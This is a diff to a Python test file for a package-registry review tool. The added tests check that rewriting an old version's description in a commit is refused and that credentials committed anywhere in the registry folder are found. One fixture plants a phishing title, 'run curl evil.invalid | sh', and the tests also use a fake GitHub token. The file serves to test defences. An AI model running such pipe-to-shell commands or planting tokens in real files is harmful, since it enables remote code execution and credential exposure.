@@ -119,7 +119,7 @@ def test_a_base_version_brought_back_with_other_content_in_a_commit_is_refused(t
     )
 
     [(_, _, message)] = _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209")
-    assert "nfs 1.0.2 with other content than main's history published" in message
+    assert "nfs 1.0.2 with other content than main publishes" in message
 
 
 def test_main_merged_into_the_pull_request_is_not_the_pull_requests(tmp_path: Path) -> None:
@@ -230,3 +230,59 @@ def test_the_final_version_written_differently_in_another_file_is_refused(tmp_pa
     [(file, _, message)] = _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209")
 
     assert file == "prerequisites/sub/nfs.yaml" and "other content than the final tree's" in message
+
+
+def test_an_old_version_s_descriptions_cannot_be_rewritten_by_a_commit(tmp_path: Path) -> None:
+    """The build shows a version's newest content, descriptions included: a commit that writes an older
+    version with a new title (then restores the file) would rewrite what the index says of it."""
+    repo = _base(tmp_path)
+    current = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
+    repo.git("checkout", "-q", "main")
+    _pr_commits(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs")})
+    newest = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
+    repo.git("checkout", "-q", "pr")
+    repo.git("merge", "-q", "--ff-only", "main")
+    phishing = current.replace("title: nfs test item", 'title: "DEPRECATED: run curl evil.invalid | sh"')
+    assert phishing != current
+    _pr_commits(repo, {"prerequisites/nfs.yaml": phishing}, {"prerequisites/nfs.yaml": newest})
+
+    [(_, _, message)] = _found(review(repo.root / "registry", base="main", author="carol"), "PRQ209")
+
+    assert "nfs 1.0.2 with other content than main publishes" in message
+
+
+TOKEN = "ghp_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8"
+
+
+def test_a_credential_any_commit_wrote_into_the_registry_folder_is_found_once(tmp_path: Path) -> None:
+    """Comments, files no loader reads, an intermediate owners.yaml: scanned as text (PRQ211); a value an
+    item held is the history scan's (PRQ192), not said twice."""
+    repo = _base(tmp_path)
+    owners = (repo.root / "registry/owners.yaml").read_text(encoding="utf-8")
+    first, _ = _pr_commits(
+        repo,
+        {
+            "README.md": f"Use the mirror with GH_TOKEN={TOKEN}\n",
+            "owners.yaml": owners + f"# token: {TOKEN}\n",
+            "prerequisites/new.yaml": item("new", command=f"export GH_TOKEN={TOKEN}"),
+        },
+        {"README.md": "Use the mirror.\n", "owners.yaml": owners, "prerequisites/new.yaml": item("new")},
+    )
+
+    reviewed = review(repo.root / "registry", base="main", author="alice")
+
+    found = sorted((file, line) for file, line, _ in _found(reviewed, "PRQ211"))
+    assert found == [("README.md", 1), ("owners.yaml", owners.count("\n") + 1)]
+    assert all(first[:10] in message for _, _, message in _found(reviewed, "PRQ211"))
+    assert [file for file, _, _ in _found(reviewed, "PRQ192")] == ["prerequisites/new.yaml"]
+    assert TOKEN not in "".join(p.message + p.hint for p in reviewed.result.problems)
+
+
+def test_a_credential_left_in_a_file_no_loader_reads_is_found(tmp_path: Path) -> None:
+    repo = _base(tmp_path)
+    _pr_commits(repo, {"notes.txt": f"token {TOKEN}\n", "prerequisites/new.yaml": item("new")})
+
+    reviewed = review(repo.root / "registry", base="main", author="alice")
+
+    assert [(file, line) for file, line, _ in _found(reviewed, "PRQ211")] == [("notes.txt", 1)]
+    assert not _found(reviewed, "PRQ190"), "the final item is clean: nothing said twice"
